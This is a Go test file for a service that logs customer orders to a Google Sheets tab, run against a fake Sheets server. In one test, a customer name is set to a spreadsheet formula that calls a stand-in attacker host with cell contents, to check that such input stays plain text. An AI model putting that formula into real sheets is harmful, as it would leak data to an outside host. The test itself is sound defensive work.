package sheets_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/munshi/munshi/internal/domain"
	"github.com/munshi/munshi/internal/outbox"
	"github.com/munshi/munshi/internal/sheets"
	"github.com/munshi/munshi/internal/sheets/sheetstest"
)

const sheetID = "1TestSpreadsheetId_munshi"

var ist = domain.DefaultLocation()

// newLog is the order log on a fresh fake, with no rate limit to speak of.
func newLog(t *testing.T) (*sheets.OrderLog, *sheetstest.Server) {
	t.Helper()
	fake := sheetstest.Start(t, sheetID)
	c, err := sheets.New(context.Background(), sheets.Config{SpreadsheetID: sheetID, APIURL: fake.URL, RequestsPerMinute: 60000})
	if err != nil {
		t.Fatal(err)
	}
	return &sheets.OrderLog{Sheet: c, Location: ist, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))}, fake
}

// order is ORD-n for Rajesh with two lines, placed at 11:02 IST on 16 Nov.
func order(n int, status domain.OrderStatus) domain.LoggedOrder {
	placed := time.Date(2026, 11, 16, 11, 2, 0, 0, ist)
	lo := domain.LoggedOrder{ID: fmt.Sprintf("ORD-%d", n), CustomerID: "C01", CustomerName: "Rajesh Kirana Store",
		PlacedBy: "+919900000003", Payment: domain.PayCOD, Status: status, PlacedAt: placed, ChangedAt: placed,
		Lines: []domain.LoggedLine{
			{SKU: "GC500", Product: "Glass Cleaner 500ml", Unit: "bottle", Qty: 240, SaidQty: 10, SaidUnit: "carton",
				Price: 9200, GSTRate: 1800, Amount: 2208000, GSTAmount: 397440},
			{SKU: "PH1L", Product: "Phenyl 1L", Unit: "bottle", Qty: 120, SaidQty: 10, SaidUnit: "pack",
				Price: 6500, GSTRate: 1800, Amount: 780000, GSTAmount: 140400},
		}}
	lo.Subtotal = 2208000 + 780000
	lo.GST = 397440 + 140400
	lo.Total = lo.Subtotal + lo.GST
	return lo
}

func payload(lo domain.LoggedOrder) []byte { return domain.OrderLogged(lo).Payload }

func send(t *testing.T, l *sheets.OrderLog, los ...domain.LoggedOrder) []outbox.Result {
	t.Helper()
	var ps [][]byte
	for _, lo := range los {
		ps = append(ps, payload(lo))
	}
	return l.SendBatch(context.Background(), ps)
}

// lines are the data rows of the Orders tab.
func lines(fake *sheetstest.Server) [][]string {
	rows := fake.Rows(sheets.OrdersTab)
	if len(rows) == 0 {
		return nil
	}
	return rows[1:]
}

func TestOrderRowsCarryTheOrder(t *testing.T) {
	l, fake := newLog(t)
	if r := send(t, l, order(1042, domain.OrderCommitted)); r[0].Err != nil {
		t.Fatal(r[0].Err)
	}
	rows := fake.Rows(sheets.OrdersTab)
	if len(rows) != 3 {
		t.Fatalf("Orders tab = %q; want the header and two lines", rows)
	}
	if strings.Join(rows[0], "|") != strings.Join(sheets.Header, "|") {
		t.Errorf("header = %q", rows[0])
	}
	want := []string{"ORD-1042", "1", "committed", "2026-11-16", "11:02", "C01", "Rajesh Kirana Store", "+919900000003",
		"GC500", "Glass Cleaner 500ml", "240", "bottle", "10 carton", "92", "18", "3974.4", "22080", "35258.4", "cod", "0",
		"2026-11-16 11:02"}
	if got := strings.Join(rows[1], "|"); got != strings.Join(want, "|") {
		t.Errorf("first line\n got %s\nwant %s", got, strings.Join(want, "|"))
	}
	if rows[2][0] != "ORD-1042" || rows[2][1] != "2" || rows[2][8] != "PH1L" || rows[2][12] != "10 pack" {
		t.Errorf("second line = %q", rows[2])
	}
	// Numbers go as numbers, text as text, and nothing is read as a formula.
	for _, r := range fake.Requests() {
		if r.Op == sheetstest.OpValuesAppend && r.Query.Get("valueInputOption") != "RAW" {
			t.Errorf("append with valueInputOption %q, want RAW", r.Query.Get("valueInputOption"))
		}
		if r.Op == sheetstest.OpValuesBatchUpdate && !strings.Contains(r.Body, `"valueInputOption":"RAW"`) {
			t.Errorf("batchUpdate without RAW: %s", r.Body)
		}
		if r.Op == sheetstest.OpValuesAppend && !strings.Contains(r.Body, `"22080.00"`) && !strings.Contains(r.Body, `22080.00`) {
			t.Errorf("amounts not sent as numbers: %s", r.Body)
		}
	}
	if tabs := fake.Tabs(); len(tabs) != 2 || tabs[1] != sheets.OrdersTab {
		t.Errorf("tabs = %q; want Sheet1 and Orders", tabs)
	}
}

func TestStatusChangeUpdatesTheSameRows(t *testing.T) {
	l, fake := newLog(t)
	send(t, l, order(1, domain.OrderCommitted), order(2, domain.OrderCommitted))
	d := order(1, domain.OrderDelivered)
	d.ChangedAt = d.PlacedAt.Add(26 * time.Hour)
	d.Lines[1].Short = 24 // two packs short
	d.Lines[1].Amount, d.Lines[1].GSTAmount = 96*6500, 112320
	d.Total = d.Lines[0].Amount + d.Lines[0].GSTAmount + d.Lines[1].Amount + d.Lines[1].GSTAmount
	if r := send(t, l, d); r[0].Err != nil {
		t.Fatal(r[0].Err)
	}
	got := lines(fake)
	if len(got) != 4 {
		t.Fatalf("%d lines after the delivery, want 4 (no new rows):\n%q", len(got), got)
	}
	if got[0][2] != "delivered" || got[1][2] != "delivered" || got[1][19] != "24" || got[1][16] != "6240" ||
		got[0][3] != "2026-11-16" || got[0][20] != "2026-11-17 13:02" {
		t.Errorf("ORD-1's rows after its short delivery: %q", got[:2])
	}
	if got[2][0] != "ORD-2" || got[2][2] != "committed" {
		t.Errorf("ORD-2's rows changed: %q", got[2:])
	}
	// The commit's write arriving late (a retry) leaves the newer rows.
	if r := send(t, l, order(1, domain.OrderCommitted)); r[0].Err != nil {
		t.Fatal(r[0].Err)
	}
	if again := lines(fake); again[0][2] != "delivered" || len(again) != 4 {
		t.Errorf("a late commit write changed the delivered rows: %q", again)
	}
}

func TestLostAppendIsNotDuplicated(t *testing.T) {
	l, fake := newLog(t)
	// Google applies the append, and the answer never arrives.
	fake.Inject(sheetstest.Fault{Op: sheetstest.OpValuesAppend, Lost: true, Times: 1})
	r := send(t, l, order(7, domain.OrderCommitted))
	if r[0].Err == nil {
		t.Fatal("a lost answer reported success")
	}
	if rows := lines(fake); len(rows) != 2 {
		t.Fatalf("the append was not applied: %q", rows)
	}
	var held interface{ Held() bool }
	var perm interface{ Permanent() bool }
	if errors.As(r[0].Err, &held) && held.Held() || errors.As(r[0].Err, &perm) && perm.Permanent() {
		t.Errorf("a lost answer is %v; want transient", r[0].Err)
	}
	// The outbox tries again: the rows are found and written in place.
	if r := send(t, l, order(7, domain.OrderCommitted)); r[0].Err != nil {
		t.Fatal(r[0].Err)
	}
	if rows := lines(fake); len(rows) != 2 {
		t.Fatalf("retry after a lost answer: %d lines, want 2:\n%q", len(rows), rows)
	}
	if n := fake.Count(sheetstest.OpValuesAppend); n != 1 {
		t.Errorf("%d appends, want only the lost one", n)
	}
}

func TestFailuresSayWhatTheyMean(t *testing.T) {
	for _, tc := range []struct {
		name       string
		fault      sheetstest.Fault
		held       bool
		retryAfter time.Duration
		reason     string
	}{
		{"server error", sheetstest.Fault{Status: 500}, false, 0, "Google Sheets failed (Google 500)"},
		{"quota", sheetstest.Fault{Status: 429, RetryAfter: "7"}, false, 7 * time.Second, "quota"},
		{"quota without Retry-After", sheetstest.Fault{Status: 429}, false, 30 * time.Second, "quota"},
		{"not shared", sheetstest.Fault{Status: 403}, true, 0, "not shared with the service account"},
		{"wrong key", sheetstest.Fault{Status: 401}, true, 0, "refused the key"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l, fake := newLog(t)
			fake.Inject(tc.fault)
			err := send(t, l, order(1, domain.OrderCommitted))[0].Err
			var e *sheets.Error
			if !errors.As(err, &e) {
				t.Fatalf("err = %v, want a *sheets.Error", err)
			}
			if e.Held() != tc.held || e.RetryAfter() != tc.retryAfter || !strings.Contains(e.Reason(), tc.reason) {
				t.Errorf("held %v, retry after %v, reason %q; want %v, %v, %q", e.Held(), e.RetryAfter(), e.Reason(),
					tc.held, tc.retryAfter, tc.reason)
			}
			if e.Code() != fmt.Sprint(tc.fault.Status) {
				t.Errorf("code %q", e.Code())
			}
		})
	}
}

func TestQuotaIsHonouredWithoutAsking(t *testing.T) {
	l, fake := newLog(t)
	fake.Inject(sheetstest.Fault{Status: 429, RetryAfter: "60", Times: 1})
	send(t, l, order(1, domain.OrderCommitted))
	before := fake.Count("")
	err := send(t, l, order(2, domain.OrderCommitted))[0].Err
	var e *sheets.Error
	if !errors.As(err, &e) || e.RetryAfter() <= 50*time.Second || e.RetryAfter() > time.Minute {
		t.Fatalf("inside the wait: %v (retry after %v); want a wait of about a minute", err, e.RetryAfter())
	}
	if n := fake.Count("") - before; n != 0 {
		t.Errorf("%d requests while Google asked to wait", n)
	}
}

func TestManyOrdersOneWrite(t *testing.T) {
	l, fake := newLog(t)
	send(t, l, order(1, domain.OrderCommitted)) // the tab exists, and has rows
	before := fake.Requests()
	var los []domain.LoggedOrder
	for n := 2; n <= 51; n++ {
		los = append(los, order(n, domain.OrderCommitted))
	}
	d := order(1, domain.OrderCancelled)
	los = append(los, d, order(3, domain.OrderCommitted)) // ORD-3 twice: one state written
	results := send(t, l, los...)
	for i, r := range results {
		if r.Err != nil || r.ProviderID == "" {
			t.Fatalf("result %d = %+v", i, r)
		}
	}
	ops := map[string]int{}
	for _, r := range fake.Requests()[len(before):] {
		ops[r.Op]++
	}
	if len(ops) != 3 || ops[sheetstest.OpValuesGet] != 1 || ops[sheetstest.OpValuesAppend] != 1 || ops[sheetstest.OpValuesBatchUpdate] != 1 {
		t.Errorf("requests for 51 orders = %v; want one read, one update and one append", ops)
	}
	if got := lines(fake); len(got) != 102 || got[0][2] != "cancelled" {
		t.Errorf("%d lines, first %q; want 102 and ORD-1 cancelled", len(got), got[0])
	}
}

func TestBadRequestIsolatesTheOrder(t *testing.T) {
	l, fake := newLog(t)
	send(t, l, order(1, domain.OrderCommitted))
	// Google refuses the batch as bad (a fault of the request as a
	// whole); order by order, only the one it refuses again is given up.
	fake.Inject(sheetstest.Fault{Op: sheetstest.OpValuesAppend, Status: http.StatusBadRequest, Times: 2})
	results := send(t, l, order(2, domain.OrderCommitted), order(3, domain.OrderCommitted))
	var perm interface{ Permanent() bool }
	if !errors.As(results[0].Err, &perm) || !perm.Permanent() {
		t.Errorf("ORD-2, refused alone too: %v; want given up", results[0].Err)
	}
	if results[1].Err != nil {
		t.Errorf("ORD-3: %v; want written", results[1].Err)
	}
	if got := lines(fake); len(got) != 4 || got[2][0] != "ORD-3" {
		t.Errorf("lines %q", got)
	}
}

func TestHostileCellsStayText(t *testing.T) {
	l, fake := newLog(t)
	lo := order(9, domain.OrderCommitted)
	lo.CustomerName = `=IMPORTXML("https://evil.example/"&A1,"//x")`
	lo.Lines[0].Product = "Naphthalene\r\nBalls\x00\u2028" + strings.Repeat("धन्यवाद🙏", 5000)
	lo.Lines[1].SaidUnit = "\u202e?tpircs"
	if r := send(t, l, lo); r[0].Err != nil {
		t.Fatal(r[0].Err)
	}
	got := lines(fake)
	if got[0][6] != lo.CustomerName {
		t.Errorf("customer cell %q; want the text as it is (RAW)", got[0][6])
	}
	p := []rune(got[0][9])
	if len(p) > 500 || strings.ContainsAny(got[0][9], "\r\n\x00\u2028") || !strings.HasPrefix(got[0][9], "Naphthalene  Balls") {
		t.Errorf("product cell (%d runes) %q…", len(p), string(p[:min(len(p), 40)]))
	}
}

func TestBadPayloadIsGivenUp(t *testing.T) {
	l, fake := newLog(t)
	results := l.SendBatch(context.Background(), [][]byte{[]byte("{not json"), []byte(`{"ID":""}`), payload(order(5, domain.OrderCommitted))})
	var perm interface{ Permanent() bool }
	for i := range 2 {
		if !errors.As(results[i].Err, &perm) || !perm.Permanent() {
			t.Errorf("payload %d: %v; want given up", i, results[i].Err)
		}
	}
	if results[2].Err != nil || len(lines(fake)) != 2 {
		t.Errorf("the good order: %v, lines %q", results[2].Err, lines(fake))
	}
}

func TestDeletedTabIsMadeAgain(t *testing.T) {
	l, fake := newLog(t)
	send(t, l, order(1, domain.OrderCommitted))
	fake.DeleteTab(sheets.OrdersTab)
	err := send(t, l, order(2, domain.OrderCommitted))[0].Err
	var perm interface{ Permanent() bool }
	if err == nil || errors.As(err, &perm) && perm.Permanent() {
		t.Fatalf("a write to a deleted tab: %v; want a transient failure", err)
	}
	if r := send(t, l, order(2, domain.OrderCommitted)); r[0].Err != nil {
		t.Fatal(r[0].Err)
	}
	rows := fake.Rows(sheets.OrdersTab)
	if len(rows) != 3 || rows[0][0] != "Order" || rows[1][0] != "ORD-2" {
		t.Errorf("the tab made again: %q", rows)
	}
}

// Each batch is written holding the books' lock, so that two instances
// never both find an order's lines missing and both append them; a lock
// that cannot be had writes nothing and every order waits.
func TestBatchesAreWrittenUnderTheLock(t *testing.T) {
	l, fake := newLog(t)
	calls := 0
	l.Exclusive = func(ctx context.Context, name string, fn func(context.Context) error) error {
		calls++
		return fn(ctx)
	}
	for _, r := range send(t, l, order(1, domain.OrderCommitted), order(2, domain.OrderCommitted)) {
		if r.Err != nil {
			t.Fatal(r.Err)
		}
	}
	if calls != 1 || len(lines(fake)) == 0 {
		t.Fatalf("%d locks taken for one batch, %d lines written", calls, len(lines(fake)))
	}
	before := len(fake.Requests())
	refused := errors.New("the database is not answering")
	l.Exclusive = func(context.Context, string, func(context.Context) error) error { return refused }
	for _, r := range send(t, l, order(3, domain.OrderCommitted)) {
		if !errors.Is(r.Err, refused) {
			t.Errorf("without the lock: %v, want the lock's error", r.Err)
		}
	}
	if n := len(fake.Requests()) - before; n != 0 {
		t.Errorf("%d requests went to Google without the lock", n)
	}
}
